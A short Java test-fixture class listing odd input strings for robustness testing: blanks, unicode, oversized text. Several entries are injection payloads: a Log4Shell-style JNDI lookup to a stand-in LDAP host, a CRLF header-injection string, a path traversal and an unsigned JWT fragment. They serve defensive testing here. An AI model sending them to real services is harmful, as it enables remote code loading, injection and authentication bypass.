package dev.nostage.testkit;

import java.util.List;

/** What a stranger may send where a text is expected. */
final class OddTexts {

    static final List<String> ALL = List.of(
            "",
            " ",
            "\t\r\n",
            "\u0000",
            "line\r\nBreak: injected",
            "\"quoted\" 'twice' \\ ` $ % ; --",
            "${jndi:ldap://nowhere.invalid} %kvp{} {}",
            "a,b",
            "*",
            "../../etc",
            "\u00fc\u00df \u4e2d \ud83d\ude80 \u202e\u2028",
            "\ud83d", // half a character
            "null",
            "true",
            "-1",
            "Bearer",
            "Basic :",
            "a.b.c",
            "eyJhbGciOiJub25lIn0..",
            "x".repeat(100_000));

    private OddTexts() {}
}
